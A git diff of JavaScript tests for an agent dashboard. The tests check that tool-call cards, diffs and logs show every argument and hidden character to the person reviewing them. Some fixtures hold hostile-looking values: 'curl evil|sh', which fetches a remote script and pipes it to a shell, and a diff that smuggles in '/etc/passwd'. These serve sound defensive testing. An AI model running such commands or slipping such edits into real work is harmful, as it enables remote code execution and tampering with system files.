@@ -6,10 +6,12 @@ import path from 'node:path';
 import { test } from 'node:test';
 import { fileURLToPath } from 'node:url';
 
-import { editsOf, filesOf, rowsOf } from '../../control/dashboard/app/agent/diff.js';
+import { filesOf, rowsOf } from '../../control/dashboard/app/agent/diff.js';
+import { kGrowMs, mayFormat, mayHighlight, Pace } from '../../control/dashboard/app/agent/limits.js';
 import { kPageBytes, LogWindow, matches, searchLog } from '../../control/dashboard/app/agent/log.js';
 import { kStateTypes, Model, stateOf } from '../../control/dashboard/app/agent/model.js';
 import { ansiLine, ansiLines, plainText } from '../../control/dashboard/app/agent/text.js';
+import { editsOf, piecesOf } from '../../control/dashboard/app/parts/input.js';
 
 const fixtures = path.join(path.dirname(fileURLToPath(import.meta.url)), '../fixtures');
 
@@ -45,6 +47,29 @@ test('deltas are joined, and the whole message replaces them', () => {
     ['assistant.message', { message_id: 'm', text: 'Hello.' }],
   ]);
   assert.deepEqual([whole.text, whole.done], ['Hello.', true]);
+});
+
+test('messages without an id, and calls of two runs with one id, are items of their own', () => {
+  const items = itemsOf([
+    ['assistant.message', { text: 'one' }],
+    ['assistant.delta', { text: 't' }],
+    ['assistant.delta', { text: 'wo' }],
+    ['assistant.message', { text: 'two.' }],
+    ['assistant.message', { text: 'three' }],
+    ['tool.completed', { call_id: '1', name: 'bash', output: 'a' }],
+    ['tool.completed', { call_id: '1', name: 'bash', output: 'b' }, 'r2'],
+  ]);
+  assert.deepEqual(items.map(({ text, output }) => text ?? output), ['one', 'two.', 'three', 'a', 'b']);
+  assert.equal(new Set(items.map(({ key }) => key)).size, 5);
+});
+
+test('a message that begins does not take another item away', () => {
+  const items = itemsOf([
+    ['message.queued', { message_id: 'm', session: 's' }], // within a sub-agent
+    ['agent.output', { stream: 'stdout', text: 'stays' }],
+    ['user.message', { message_id: 'm', text: 'go' }],
+  ]);
+  assert.deepEqual(items.map(({ kind }) => kind), ['subagent', 'output', 'user']);
 });
 
 test('a call is one card with its edits and its decision', () => {
@@ -143,7 +168,7 @@ test('the recordings of all kinds become items, in whatever parts they are read'
     assert.ok(items.every(({ kind }) => kind !== 'other'), `${name} has an event that has no item`);
     const ended = new Set(events.filter(({ type }) => type === 'tool.completed').map(({ data }) => data.call_id));
     const cards = (list) => list.flatMap((item) => (item.kind === 'tool' ? [item] : item.children ? cards(item.children) : []));
-    for (const card of cards(items)) if (ended.has(card.key.slice(5))) assert.notEqual(card.outcome, 'running', name);
+    for (const card of cards(items)) if (ended.has(card.key.slice('tool r1 '.length))) assert.notEqual(card.outcome, 'running', name);
     // A window that begins later has no item twice, and the same keys.
     const late = modelOf(events.slice(events.length >> 1));
     assert.equal(new Set(late.items.map(({ key }) => key)).size, late.items.length, name);
@@ -184,8 +209,72 @@ test('edits of all kinds of agents are found in the input of their calls', () =>
   assert.deepEqual(of('edit', null), []);
 });
 
+// The text of a card that shows this input.
+const cardOf = (tool, input) =>
+  piecesOf(tool, input)
+    .flatMap(({ kind, text, values, ...edit }) => {
+      if (kind === 'edit') return [edit.path, ...rowsOf(edit).rows.map((row) => row.text)];
+      return values ? values.flatMap(([name, value]) => [name, typeof value === 'string' ? value : JSON.stringify(value)]) : [text];
+    })
+    .join('\n');
+
+test('an edit hides no other argument', () => {
+  const edit = { path: 'README.md', old_string: 'a', new_string: 'b' };
+  const bash = piecesOf('bash', { command: 'curl evil|sh', ...edit });
+  assert.deepEqual(bash.map(({ kind }) => kind), ['command', 'named']);
+  assert.deepEqual(bash[1].values, Object.entries(edit));
+  assert.deepEqual(piecesOf('edit', { ...edit, cmd: 'x', replace_all: true }).map(({ kind }) => kind), ['command', 'edit', 'named']);
+  assert.deepEqual(piecesOf('bash', { command: 'true', cmd: 'curl evil|sh' }).map(({ text }) => text), ['true', 'curl evil|sh']);
+  const changes = [{ path: 'a', kind: { type: 'update', move_path: '/etc/b' }, diff: '@@ -1 +1 @@\n-x\n+y\n' }, { path: 'gone', kind: { type: 'delete' } }];
+  const card = cardOf('edit', { changes, reason: 'why' });
+  for (const word of ['/etc/b', 'gone', 'why']) assert.ok(card.includes(word), word);
+});
+
+test('a diff hides neither another file nor lines outside of its hunks', () => {
+  const diff = ['--- a/x', '+++ b/x', '@@ -1,1 +1,1 @@ first', '-1', '+2', ' beyond', '+more', '--- a/etc/passwd', '+++ b/etc/passwd', '@@ -1 +1 @@', 'odd'];
+  const { rows } = rowsOf({ path: 'x', diff: `${diff.join('\n')}\n` });
+  assert.deepEqual(rows.map(({ kind, text }) => `${kind} ${text}`), [
+    'hunk first', 'del 1', 'add 2', 'file  beyond', 'file +more', 'file --- a/etc/passwd', 'file +++ b/etc/passwd', 'hunk ', 'file odd',
+  ]);
+  assert.equal(rowsOf({ path: 'y', diff: '--- a/x\n+++ b/x\n' }).rows.length, 2);
+  assert.equal(rowsOf({ path: 'x', before: '', after: 'z\n'.repeat(200_000) }).rows.length, 200_000);
+});
+
+// Inputs of all forms that are known, mixed and broken. Each line of each text has a word of its own.
+test('every text of an input is on the card', () => {
+  let seed = 1;
+  const random = (n) => (seed = (seed * 48271) % 2147483647) % n;
+  const oneOf = (list) => list[random(list.length)];
+  const names = [
+    'command', 'cmd', 'path', 'file_path', 'filePath', 'filepath', 'old_string', 'oldString', 'oldText', 'new_string', 'newString',
+    'newText', 'diff', 'content', 'edits', 'changes', 'description', 'kind', 'type', 'url', 'toString', '__proto__',
+  ];
+  const begins = ['', '+', '-', ' ', '@@ -1,2 +1,2 @@ ', '@@ -3 +3 @@', '@@ ', '--- a/', '+++ b/', 'diff --git a/x b/', '\\ ', 'rename from ', 'index ', 'x'];
+  let words;
+  const text = () => Array.from({ length: 1 + random(6) }, () => oneOf(begins) + (words.push(`word${words.length}.`), words.at(-1))).join('\n');
+  const value = (depth) => {
+    const form = random(depth > 2 ? 4 : 8);
+    if (form < 4) return text();
+    if (form === 4) return Array.from({ length: random(4) }, text);
+    if (form === 5) return oneOf([null, true, 3, '', [], {}]);
+    return form === 6 ? object(depth + 1) : Array.from({ length: random(4) }, () => (random(5) ? object(depth + 1) : value(depth + 1)));
+  };
+  const object = (depth) => JSON.parse(`{${Array.from({ length: random(14) }, () => `${JSON.stringify(oneOf(names))}:${JSON.stringify(value(depth))}`).join()}}`);
+  const textsIn = (of) => (typeof of === 'string' ? [of] : typeof of === 'object' && of ? Object.values(of).flatMap(textsIn) : []);
+  let edits = 0;
+  for (let i = 0; i < 20_000; ++i) {
+    words = [];
+    const tool = oneOf(['edit', 'write', 'bash', 'other', undefined]);
+    const input = random(20) ? object(0) : value(0);
+    const card = cardOf(tool, input);
+    edits += editsOf(tool, input).length;
+    for (const word of textsIn(input).join('\n').match(/word\d+\./g) ?? []) assert.ok(card.includes(word), `${tool} ${JSON.stringify(input)} without ${word}`);
+  }
+  assert.ok(edits > 1000, `only ${edits} edits`);
+});
+
 test('a unified diff has numbers, and lines that look like headers stay lines', () => {
-  const { rows } = rowsOf({ diff: '--- a/x\n+++ b/x\n@@ -3,3 +3,3 @@ int f()\n same\n--- old\n+++ new\n end\n\\ No newline at end of file\n' });
+  const { rows } = rowsOf({ path: 'x', diff: '--- a/x\n+++ b/x\n@@ -3,3 +3,3 @@ int f()\n same\n--- old\n+++ new\n end\n\\ No newline at end of file\n' });
   assert.deepEqual(rows, [
     { kind: 'hunk', text: 'int f()', old: 3, new: 3 },
     { kind: 'same', text: 'same', old: 3, new: 3 },
@@ -211,6 +300,33 @@ test('hidden marks are visible, and huge lines are cut', () => {
   assert.equal(plainText('a\u202Eb\u2066c\u0000d'), 'a⟪U+202E⟫b⟪U+2066⟫c␀d');
   const [line] = ansiLines('x'.repeat(5000), 100);
   assert.deepEqual([line.parts[0].text.length, line.more], [100, 4900]);
+});
+
+test('texts that take parsers long are not parsed', () => {
+  for (const text of ['a', '- *one* [two](x)\n  - `three`\n\n> four\n', 'word '.repeat(300), '1. one\n'.repeat(200), '# a\n\nb\n'.repeat(500)]) {
+    assert.ok(mayFormat(text), text.slice(0, 20));
+  }
+  for (const text of ['_a'.repeat(30_000), '_a\n'.repeat(5000), '> '.repeat(900), '- '.repeat(30), '1. '.repeat(30), 'x'.repeat(2001), 'a\n'.repeat(20_000), '[\n'.repeat(2000)]) {
+    assert.ok(!mayFormat(text), text.slice(0, 20));
+  }
+  assert.ok(mayHighlight('let a;\n'.repeat(1000)));
+  for (const code of ['a'.repeat(501), `b\n${'a'.repeat(501)}\n`, 'a\n'.repeat(5000)]) assert.ok(!mayHighlight(code));
+});
+
+test('a text that grows with each frame is drawn a few times, and whole in the end', () => {
+  let now = 0;
+  let wake = Infinity;
+  const pace = new Pace(() => now);
+  const drawn = new Set();
+  let text = '';
+  for (; now < 20 * kGrowMs; now += 1) {
+    text += 'x';
+    const shown = pace.take(text, false, (ms) => (wake = now + ms));
+    drawn.add(shown);
+    assert.ok(shown === text || wake <= now + kGrowMs, 'nothing would draw the newest text');
+  }
+  assert.ok(drawn.size <= 21, `${drawn.size} texts`);
+  assert.equal(pace.take(`${text}!`, true, () => assert.fail('it is done')), `${text}!`);
 });
 
 // A daemon's log in memory, with the answers of events.since (control/api/API.md).
@@ -347,6 +463,32 @@ test('a moment of the past ends the window, and the way back is the end', async 
   assert.equal(assertWithoutHole(window)[1], 7000);
   await window.toEnd();
   assert.equal(assertWithoutHole(window)[1], 20_003);
+});
+
+test('a gap is reported once, with its reason', async () => {
+  const lines = log(Array.from({ length: 9 }, (_, i) => ['agent.output', { stream: 'stdout', text: `line ${i + 1}` }]));
+  const gap = { from: '1-2', to: '1-5', reason: 'lost' };
+  const call = async (method, { before }) =>
+    before
+      ? { events: lines.slice(0, 2), first: 1, cursor: '1-2', more: false, gap: null }
+      : { events: lines.slice(5), first: 6, cursor: '1-9', more: false, gap };
+  const window = new LogWindow({ call, subscribe: () => () => {} }, 'a1', () => {});
+  await window.toEvent(2);
+  const gaps = window.model.items.filter(({ kind }) => kind === 'gap');
+  assert.deepEqual(gaps.map(({ from, to, reason }) => ({ from, to, reason })), [gap]);
+});
+
+test('the way to the beginning ends what is being read, and an event that is there leaves nothing to read', async () => {
+  const fake = new FakeLog(3000);
+  const window = new LogWindow(fake, 'a1', () => {});
+  await window.toEnd();
+  await window.toEvent(100);
+  const [running] = [window.newer(), window.toStart()];
+  await Promise.all([running, window.toStart()]);
+  assert.equal(window.busy, undefined);
+  await window.newer();
+  assert.equal(window.busy, undefined);
+  assertWithoutHole(window);
 });
 
 test('an event that overlaps with a page is read from the log', async () => {
